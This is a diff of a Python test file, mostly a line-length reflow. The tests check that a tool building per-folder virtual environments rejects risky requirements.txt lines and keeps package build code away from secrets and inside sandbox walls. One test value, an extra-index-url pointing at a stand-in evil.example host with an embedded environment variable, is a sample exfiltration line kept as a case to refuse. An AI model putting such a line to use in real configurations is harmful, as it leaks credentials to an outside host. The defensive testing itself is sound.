@@ -94,18 +94,14 @@ async def test_an_environment_runs_with_its_own_packages_and_with_nothing_of_our
     target = (await requirements.interpreter(folder)).parents[2]
     assert shown == f"1.17.0 [] {target / 'venv'}"
     assert (target / "ready").read_text() == SMALL
-    assert told and all(
-        message.startswith("installing the environment's packages: ") for message in told
-    )
+    assert told and all(message.startswith("installing the environment's packages: ") for message in told)
 
     told.clear()
     async with await EnvironmentHost.start(folder, on_progress=on_progress):
         assert not told  # installed once
 
 
-async def test_a_folder_without_requirements_runs_with_our_own_interpreter(
-    tmp_path: Path, flash_home: Path
-) -> None:
+async def test_a_folder_without_requirements_runs_with_our_own_interpreter(tmp_path: Path, flash_home: Path) -> None:
     folder = folder_with(tmp_path, "  # nothing\n\n")
     assert await requirements.interpreter(folder) == Path(sys.executable)
     assert not (flash_home / "interpreters").exists()
@@ -125,11 +121,7 @@ async def test_what_the_resolver_said_last_is_in_the_error_and_nothing_half_made
 async def test_a_line_that_goes_on_in_the_next_is_one(tmp_path: Path) -> None:
     hashes = "six==1.17.0 \\\n --hash=sha256:11 \\\n --hash=sha256:00\n"
     folder = folder_with(tmp_path, f"zlib==1\n{hashes}  # via one\nattrs # x\n")
-    assert requirements.of_folder(folder) == [
-        "attrs",
-        "six==1.17.0  --hash=sha256:11  --hash=sha256:00",
-        "zlib==1",
-    ]
+    assert requirements.of_folder(folder) == ["attrs", "six==1.17.0  --hash=sha256:11  --hash=sha256:00", "zlib==1"]
     (folder / "requirements.txt").write_text("six\nattrs\n-\\\nr more.txt\n")
     assert "requirements.txt line 3: '-r more.txt'" in (await fault_of(folder)).what
 
@@ -151,15 +143,10 @@ async def test_a_pyproject_that_cannot_be_read_is_an_error(tmp_path: Path, text:
     assert raised.value.code == "requirements_failed"
 
 
-@pytest.mark.parametrize(
-    "line", ["-r more.txt", "-e .", "./wheels/one.whl", "--constraint c.txt", "one @ file:one"]
-)
+@pytest.mark.parametrize("line", ["-r more.txt", "-e .", "./wheels/one.whl", "--constraint c.txt", "one @ file:one"])
 async def test_a_line_that_refers_to_other_files_is_refused(line: str, tmp_path: Path) -> None:
     fault = await fault_of(folder_with(tmp_path, f"six\n{line}\n"))
-    assert (fault.code, f"requirements.txt line 2: {line!r}" in fault.what) == (
-        "requirements_failed",
-        True,
-    )
+    assert (fault.code, f"requirements.txt line 2: {line!r}" in fault.what) == ("requirements_failed", True)
 
 
 @pytest.mark.hostile("builds")
@@ -174,9 +161,7 @@ async def test_a_line_that_refers_to_other_files_is_refused(line: str, tmp_path:
         "--extra-index-url https://evil.example/${UV_DEFAULT_INDEX}",
     ],
 )
-async def test_a_line_that_allows_builds_or_reads_a_variable_is_refused(
-    line: str, tmp_path: Path
-) -> None:
+async def test_a_line_that_allows_builds_or_reads_a_variable_is_refused(line: str, tmp_path: Path) -> None:
     fault = await fault_of(folder_with(tmp_path, f"six\n{line}\n"))
     assert fault.code == "requirements_failed"
     assert f"requirements.txt line 2: {line!r:.100} has an option or a variable" in fault.what
@@ -217,24 +202,15 @@ async def test_two_processes_at_once_both_get_the_interpreter_after_one_that_was
     """
     command = (sys.executable, "-c", textwrap.dedent(code))
     with (target / "lock").open("a") as lock:
-        fcntl.flock(
-            lock, fcntl.LOCK_EX
-        )  # both meet somebody who installs; then there are two of them
+        fcntl.flock(lock, fcntl.LOCK_EX)  # both meet somebody who installs; then there are two of them
         both = started(command, command)
         for process in both:
-            assert (
-                process.stdout
-                and "another process installs the same packages"
-                in await asyncio.to_thread(
-                    lambda stdout: next(line for line in stdout if "starting" not in line),
-                    process.stdout,
-                )
+            assert process.stdout and "another process installs the same packages" in await asyncio.to_thread(
+                lambda stdout: next(line for line in stdout if "starting" not in line), process.stdout
             )
     outputs = await asyncio.gather(*(asyncio.to_thread(process.communicate) for process in both))
     assert [process.returncode for process in both] == [0, 0]
-    assert [output.splitlines()[-1] for output, _ in outputs] == [
-        str(target / "venv" / "bin" / "python")
-    ] * 2
+    assert [output.splitlines()[-1] for output, _ in outputs] == [str(target / "venv" / "bin" / "python")] * 2
     assert not (target / "venv" / "left-over").exists()
     assert names_in(flash_home / "interpreters") == {"lock", "ready", "requirements.txt", "venv"}
 
@@ -272,17 +248,11 @@ def test_where_there_is_no_uv_pip_installs(tmp_path: Path) -> None:
         requirements.main()
     """
     scratch = {"HOME": str(tmp_path / "tmp"), "TMPDIR": str(tmp_path / "tmp")}
-    subprocess.run(
-        [sys.executable, "-c", textwrap.dedent(code), tmp_path],
-        env=os.environ | scratch,
-        check=True,
-    )
+    subprocess.run([sys.executable, "-c", textwrap.dedent(code), tmp_path], env=os.environ | scratch, check=True)
     assert (tmp_path / "ready").is_file() and list(tmp_path.glob("venv/bin/pip*"))
 
 
-async def test_build_code_of_packages_sees_none_of_our_secrets(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+async def test_build_code_of_packages_sees_none_of_our_secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HF_TOKEN", "planted")
     monkeypatch.setenv("UV_HTTP_TIMEOUT", "30")
     folder = folder_with(tmp_path, SMALL)
@@ -388,9 +358,7 @@ async def test_a_packages_build_and_its_start_up_code_stand_behind_the_walls(
                 told = [attacker.AT_BUILD, attacker.AT_START, attacker.POWERS]
                 return [{"role": "user", "content": json.dumps(told)}]
     """
-    async with await EnvironmentHost.start(
-        folder_with(tmp_path, "attacker\n", source, returns="Sample()")
-    ) as host:
+    async with await EnvironmentHost.start(folder_with(tmp_path, "attacker\n", source, returns="Sample()")) as host:
         *both, powers = json.loads((await host.open("train", 0)).messages[0]["content"])
         for found in both:
             # In a PID namespace there is no server to look at.
@@ -398,9 +366,7 @@ async def test_a_packages_build_and_its_start_up_code_stand_behind_the_walls(
             assert absent <= {"EACCES", "EPERM", "ENOENT", "ESRCH"}, absent
             assert len(found) == 7 and set(found.values()) <= {"EACCES", "EPERM", "EROFS"}, found
         assert powers & ~(1 << kernel.CAP_DAC_READ_SEARCH) == 0, "a build may read, and no more"
-    assert ["sleep", "4321"] not in [
-        process.info["cmdline"] for process in psutil.process_iter(["cmdline"])
-    ]
+    assert ["sleep", "4321"] not in [process.info["cmdline"] for process in psutil.process_iter(["cmdline"])]
 
 
 @pytest.mark.hostile("builds")
@@ -495,9 +461,7 @@ def wheel_of(name: str, requires: str = "") -> bytes:
         wheel.writestr(f"{name}.py", "ANSWER = 42")
         about = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n{requires}"
         wheel.writestr(info + "METADATA", about)
-        wheel.writestr(
-            info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
-        )
+        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
         wheel.writestr(info + "RECORD", "")
     return stream.getvalue()
 
@@ -505,9 +469,7 @@ def wheel_of(name: str, requires: str = "") -> bytes:
 async def test_what_another_package_requires_is_built_if_the_operator_allows_it(
     tmp_path: Path, flash_home: Path, attacker: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    (attacker / "needy-1-py3-none-any.whl").write_bytes(
-        wheel_of("needy", "Requires-Dist: attacker\n")
-    )
+    (attacker / "needy-1-py3-none-any.whl").write_bytes(wheel_of("needy", "Requires-Dist: attacker\n"))
     monkeypatch.setenv("UV_FIND_LINKS", str(attacker))
     monkeypatch.setenv("UV_OFFLINE", "1")
     allow(flash_home, 'build_from_source = ["attacker"]')
@@ -529,11 +491,7 @@ def private_index() -> Iterator[str]:
 @pytest.mark.hostile("builds")
 @pytest.mark.parametrize("place", ["a variable", "a settings file"])
 async def test_a_build_sees_no_password_of_an_index(
-    tmp_path: Path,
-    flash_home: Path,
-    private_index: str,
-    monkeypatch: pytest.MonkeyPatch,
-    place: str,
+    tmp_path: Path, flash_home: Path, private_index: str, monkeypatch: pytest.MonkeyPatch, place: str
 ) -> None:
     config = tmp_path / "config"
     (config / "uv").mkdir(parents=True)
@@ -595,11 +553,7 @@ def test_interpreters_that_nobody_used_for_long_make_room_for_others(flash_home:
     with requirements.hold(held / "venv" / "bin" / "python") or io.StringIO():
         os.utime(held / "used", (2000, 2000))
         assert requirements._make_room(new) == ""  # pyright: ignore[reportPrivateUsage]
-        assert [each.is_dir() for each in (oldest / "venv", held / "venv", old / "venv")] == [
-            False,
-            True,
-            True,
-        ]
+        assert [each.is_dir() for each in (oldest / "venv", held / "venv", old / "venv")] == [False, True, True]
         assert not (oldest / "ready").exists()
         allow(flash_home, "interpreters_gib = 0.0001")
         why = requirements._make_room(new)  # pyright: ignore[reportPrivateUsage]
@@ -609,9 +563,7 @@ def test_interpreters_that_nobody_used_for_long_make_room_for_others(flash_home:
     assert not (held / "ready").exists()
 
 
-async def test_an_installation_without_room_says_who_may_change_it(
-    tmp_path: Path, flash_home: Path
-) -> None:
+async def test_an_installation_without_room_says_who_may_change_it(tmp_path: Path, flash_home: Path) -> None:
     allow(flash_home, "interpreters_gib = 0.0001")
     held = interpreter_of(flash_home, "held", 500, 1000.0)
     with requirements.hold(held / "venv" / "bin" / "python") or io.StringIO():
